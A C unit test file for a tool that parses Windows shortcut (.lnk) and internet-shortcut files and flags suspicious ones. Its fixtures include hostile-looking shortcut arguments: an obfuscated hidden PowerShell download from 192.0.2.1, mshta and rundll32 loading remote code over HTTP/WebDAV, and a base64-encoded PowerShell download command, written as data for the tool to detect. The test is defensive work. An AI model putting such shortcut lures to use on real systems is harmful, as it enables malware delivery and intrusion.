/* Shortcuts: what stands in them, what they run, and where others lead.  Addresses
 * are of the documentation ranges; nothing here is run or followed. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include "lookkit.h"
#include "lnkkit.h"
#include "unpack/lnk.h"

extern const struct sk_observer sk_observe_lnk, sk_observe_shortcut;

/* All values of key, joined by "|". */
static void
expect(const struct lookkit *k, enum sk_key key, const char *want, const char *what)
{
	const struct sk_observation *o = sk_record_find(k->u.record, 1, key);
	char text[8192] = "";
	size_t n = 0;

	for (; o != NULL && n < sizeof text; o = sk_record_next(k->u.record, o)) {
		if (n > 0)
			text[n++] = '|';
		if (sk_key_table[key].type == SK_VALUE_NUMBER)
			n += (size_t)snprintf(text + n, sizeof text - n, "%u", (unsigned)o->number);
		else
			n += (size_t)snprintf(text + n, sizeof text - n, "%.*s", SK_FMT(o->text));
	}
	if (strcmp(text, want) != 0)
		fail_msg("%s: %s is \"%s\", not \"%s\"", what, sk_key_table[key].name, text, want);
}

static void
places(void **state)
{
	struct sk_arena *a = sk_arena_new(1 << 24);
	static const unsigned versions[] = { 3, 7, 8, 9 };
	struct sk_lnk lnk;

	(void)state;
	for (size_t i = 0; i < sizeof versions / sizeof *versions; i++) {
		struct lnkkit k = { .drive_path = "C:\\long folder name\\a long name.docx",
		    .version = versions[i], .local = "C:\\x", .suffix = "y\\a long name.docx",
		    .environment = "%windir%\\a long name.docx", .machine = "desktop-1",
		    .arguments = "/x y", .icon = "a.ico", .relative = "..\\a long name.docx" };
		struct sk_span s = lnkkit_build(a, &k);

		assert_true(sk_lnk_parse(s, a, &lnk));
		assert_true(sk_span_is(lnk.target_list, k.drive_path));
		assert_true(sk_span_is(lnk.target_info, "C:\\x\\y\\a long name.docx"));
		assert_true(sk_span_is(lnk.target_environment, k.environment));
		assert_true(sk_span_is(lnk.arguments, "/x y"));
		assert_true(sk_span_is(lnk.icon, "a.ico"));
		assert_true(sk_span_is(lnk.machine_id, "desktop-1"));
		assert_true(sk_span_is(lnk.mac, "00:0c:29:01:02:03"));
		assert_true(lnk.has_serial && lnk.serial == 0x12345678);
		assert_int_equal(lnk.targets, 3);
		assert_int_equal(lnk.defects, 0);
		assert_int_equal(lnk.end, s.n);
		assert_int_equal(sk_lnk_end(s), s.n);
		/* cut anywhere: no more than what is there, and it is told */
		for (size_t n = 20; n < s.n - 4; n++) {
			struct sk_lnk cut;

			assert_true(sk_lnk_parse(sk_span_head(s, n), a, &cut));
			assert_true(cut.end <= n);
		}
		assert_false(sk_lnk_parse(sk_span_head(s, 19), a, &lnk));
	}
	sk_arena_free(a);
}

static void
odd(void **state)
{
	struct sk_arena *a = sk_arena_new(1 << 24);
	struct lnkkit sjis = { .ansi = true, .arguments = "\x97\x5C\x8E\x5A\x82\xCC\x95\x5C\x82\xF0\x8A\x4A\x82\xAD" };
	struct lnkkit share = { .share = "\\\\FS01\\PUB", .suffix = "a.xlsx" };
	struct lnkkit other = { .drive_path = "C:\\a.docx", .local = "C:\\Windows\\cmd.exe" };
	struct lnkkit junk = { .behind = SK_SPAN("PK\3\4 no block at all") };
	struct lnkkit beside = { .drive_path = "C:\\a.exe", .relative = ".\\a.exe" };
	struct sk_lnk lnk;

	(void)state;
	assert_true(sk_lnk_parse(lnkkit_build(a, &sjis), a, &lnk));
	assert_true(sk_span_is(lnk.arguments, "予算の表を開く"));
	assert_true(sk_lnk_parse(lnkkit_build(a, &share), a, &lnk));
	assert_true(sk_span_is(lnk.target_info, "\\\\FS01\\PUB\\a.xlsx"));
	assert_false(lnk.has_serial);
	assert_true(sk_lnk_parse(lnkkit_build(a, &other), a, &lnk));
	assert_int_equal(lnk.defects, SK_LNK_TARGETS_DIFFER);
	assert_true(sk_lnk_parse(lnkkit_build(a, &junk), a, &lnk));
	assert_int_equal(lnk.defects, SK_LNK_BAD_EXTRA);
	assert_int_equal(lnk.end, 76);
	assert_true(sk_lnk_parse(lnkkit_build(a, &beside), a, &lnk));
	assert_int_equal(lnk.targets, 2);
	sk_arena_free(a);
}

static const struct {
	const char	*target, *arguments, *icon;
	const char	*command, *does, *padding, *shows, *remote, *shown;
	bool		 downloader;
} commands[] = {
	{ "C:\\Windows\\System32\\cmd.exe", "/c echo", NULL, "cmd", "run", "", "", "", "/c echo", false },
	{ "C:\\W\\cmd.exe", "/c p^ow^ersh^ell -w hidden iwr http://192.0.2.1/a -o a", "C:\\x\\資料.pdf",
	  "cmd|powershell", "fetch|run|hide", "", "pdf", "", "/c p^ow^ersh^ell -w hidden iwr http://192.0.2.1/a -o a", true },
	{ "C:\\W\\mshta.exe", "http://192.0.2.1/a.hta", NULL, "mshta", "fetch|run", "", "", "",
	  "http://192.0.2.1/a.hta", true },
	{ "C:\\W\\rundll32.exe", "\\\\192.0.2.1@80\\DavWWWRoot\\a.dll,Run", NULL, "rundll32", "run", "", "",
	  "192.0.2.1@80\twebdav", "\\\\192.0.2.1@80\\DavWWWRoot\\a.dll,Run", false },
	{ "C:\\W\\cmd.exe", "a                              \t b", "notepad.exe", "cmd", "run", "32", "document", "",
	  "a b", false },
	{ "C:\\W\\cmd.exe", "a               b", NULL, "cmd", "run", "", "", "", "a               b", false },
	{ "C:\\P\\app.exe", "--open \"C:\\a b\\c.doc\"", "C:\\P\\app.exe", "", "", "", "", "",
	  "--open \"C:\\a b\\c.doc\"", false },
	{ "C:\\P\\WINWORD.EXE", "a.doc", "C:\\P\\wordicon.exe", "", "", "", "", "", "a.doc", false },
	{ "C:\\Windows\\explorer.exe", "\\\\fs01\\pub", "shell32.dll", "", "", "", "", "fs01\tshare", "\\\\fs01\\pub", false },
	{ "C:\\x\\start.bat", NULL, NULL, "script", "", "", "", "", "", false },
	{ "C:\\x\\budget.xlsx", NULL, NULL, "", "", "", "", "", "", false },
	/* "IEX 'curl http'" in UTF-16 and base64, beside the words of PowerShell */
	{ "C:\\W\\powershell.exe", "-enc SQBFAFgAIAAnAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AZQB4AGEAbQBwAGwAZQAvAEEAJwA=",
	  NULL, "powershell", "fetch|run|eval", "", "", "",
	  "-enc SQBFAFgAIAAnAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4AC4AZQB4AGEAbQBwAGwAZQAvAEEAJwA=", true }
};

static void
orders(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof commands / sizeof *commands; i++) {
		struct lnkkit k = { .drive_path = commands[i].target, .arguments = commands[i].arguments,
		    .icon = commands[i].icon };
		struct sk_arena *a = sk_arena_new(1 << 24);
		const char *what = commands[i].target;
		struct lookkit look;

		assert_true(lookkit_open(&look, SK_TYPE_LNK, lnkkit_build(a, &k)));
		sk_observe_lnk.look(&look.l);
		expect(&look, SK_KEY_LNK_KIND, "lnk", what);
		expect(&look, SK_KEY_LNK_TARGET, commands[i].target, what);
		expect(&look, SK_KEY_LNK_ARGUMENTS, commands[i].shown, what);
		expect(&look, SK_KEY_LNK_COMMAND, commands[i].command, what);
		expect(&look, SK_KEY_SCRIPT_DOES, commands[i].does, what);
		expect(&look, SK_KEY_LNK_PADDING, commands[i].padding, what);
		expect(&look, SK_KEY_LNK_SHOWS_OTHER, commands[i].shows, what);
		expect(&look, SK_KEY_LNK_REMOTE, commands[i].remote, what);
		expect(&look, SK_KEY_SCRIPT_DOWNLOADER, commands[i].downloader ? "1" : "", what);
		lookkit_close(&look);
		sk_arena_free(a);
	}
}

static const struct { const char *text, *target, *remote, *command; } texts[] = {
	{ "[InternetShortcut]\r\nURL=https://www.example.jp/\r\n", "https://www.example.jp/", "", "" },
	{ "[InternetShortcut]\nURL=file://192.0.2.1/a/b.js\n", "file://192.0.2.1/a/b.js", "192.0.2.1\tshare", "script" },
	{ "[InternetShortcut]\nURL=file:////fs01/a\n", "file:////fs01/a", "fs01\tshare", "" },
	{ "[InternetShortcut]\nURL=file:///C:/Windows/cmd.exe\n", "file:///C:/Windows/cmd.exe", "", "cmd" },
	{ "[InternetShortcut]\nURL=file:\\\\A.example@SSL@8443\\DavWWWRoot\\x\n", "file:\\\\A.example@SSL@8443\\DavWWWRoot\\x",
	  "a.example@ssl@8443\twebdav", "" },
	{ "[InternetShortcut]\nURL=\\\\a.example\\davwwwroot\\x\n", "\\\\a.example\\davwwwroot\\x", "a.example\twebdav", "" },
	{ "[InternetShortcut]\nURL=\\\\?\\UNC\\a.example\\x\n", "\\\\?\\UNC\\a.example\\x", "a.example\tshare", "" },
	{ "[InternetShortcut]\nURL=\\\\?\\C:\\x\n", "\\\\?\\C:\\x", "", "" },
	{ "[InternetShortcut]\nURL=//C:/x\n", "//C:/x", "", "" },
	{ "[InternetShortcut]\nURL=search-ms:query=a&crumb=location:%5c%5ca.example%5cx\n",
	  "search-ms:query=a&crumb=location:%5c%5ca.example%5cx", "a.example\tsearch", "" },
	{ "[InternetShortcut]\nURL=search-ms:query=a\n", "search-ms:query=a", "", "" },
	{ "[InternetShortcut]\n URL = x \n[InternetShortcut.W]\nURL=+AFwAXA-a.example+AFw-+jMdlmQ-\n",
	  "x|\\\\a.example\\資料", "a.example\tshare", "" },
	{ "[InternetShortcut]\nURL=\\\\\\\\\\\\\n", "\\\\\\\\\\\\", "", "" },
	{ "<?xml version='1.0'?><libraryDescription><url>\\\\a.example&#x40;80&#92;x</url></libraryDescription>",
	  "\\\\a.example@80\\x", "a.example@80\twebdav", "" },
	{ "<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c powershell a</DeepLink></PCSettings>",
	  "%windir%\\system32\\cmd.exe /c powershell a", "", "cmd|powershell" },
	{ "It is said that <libraryDescription> has <url>\\\\a.example\\x</url>.", "", "", "" }
};

static void
elsewhere(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
		struct sk_span s = sk_span_text(texts[i].text);
		struct lookkit look;

		assert_true(lookkit_open(&look, texts[i].text[0] == '[' ? SK_TYPE_URL_FILE : SK_TYPE_TEXT, s));
		sk_observe_shortcut.look(&look.l);
		expect(&look, SK_KEY_LNK_TARGET, texts[i].target, texts[i].text);
		expect(&look, SK_KEY_LNK_REMOTE, texts[i].remote, texts[i].text);
		expect(&look, SK_KEY_LNK_COMMAND, texts[i].command, texts[i].text);
		lookkit_close(&look);
	}
}

/* What stands behind a shortcut is taken out, from its first byte or from inside. */
static void
behind(void **state)
{
	static const struct { struct sk_span behind; const char *types; } rows[] = {
		{ SK_LIT("\0\0\0\0"), "" }, { SK_LIT("\0\0\0\0some junk that is nothing at all \1\2\3\4\5\6"), "" },
		{ SK_LIT("\0\0\0\0%PDF-1.4\n1 0 obj\nendobj\n%%EOF\n\0\0\0\0\0\0\0\0\0\0"), "pdf" },
		{ SK_LIT("\0\0\0\0\1\2\3\4\xFF\xFE\x80\x81%PDF-1.4\n1 0 obj\nendobj\n%%EOF\n\0\0\0\0\0\0"), "pdf" },
		{ SK_LIT("\0\0\0\0%PDF-1.4\n1 0 obj\nendobj\n%%EOF\n\0\0\0{\\rtf1\\ansi a text that is long enough}"), "pdf rtf" }
	};

	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
		struct sk_arena *a = sk_arena_new(1 << 24);
		struct lnkkit k = { .drive_path = "C:\\W\\cmd.exe", .behind = rows[i].behind };
		struct lookkit look;
		char types[256] = "";

		assert_true(lookkit_open(&look, SK_TYPE_LNK, SK_SPAN("")));
		look.u.record = NULL;
		look.u.n = look.u.room = 0;
		look.u.object = NULL;
		assert_int_equal(sk_unpack_run(&look.u, lnkkit_build(a, &k), SK_SPAN("a.lnk")), 0);
		for (size_t o = 2; o < look.u.n; o++)
			(void)snprintf(types + strlen(types), sizeof types - strlen(types), "%s%s", o > 2 ? " " : "",
			    sk_type_table[look.u.object[o].type].word);
		if (strcmp(types, rows[i].types) != 0)
			fail_msg("row %zu: \"%s\", not \"%s\"", i, types, rows[i].types);
		lookkit_close(&look);
		sk_arena_free(a);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(places), cmocka_unit_test(odd), cmocka_unit_test(orders),
		cmocka_unit_test(elsewhere), cmocka_unit_test(behind)
	};

	return sk_charset_warm() != 0 ? 1 : cmocka_run_group_tests(tests, NULL, NULL);
}
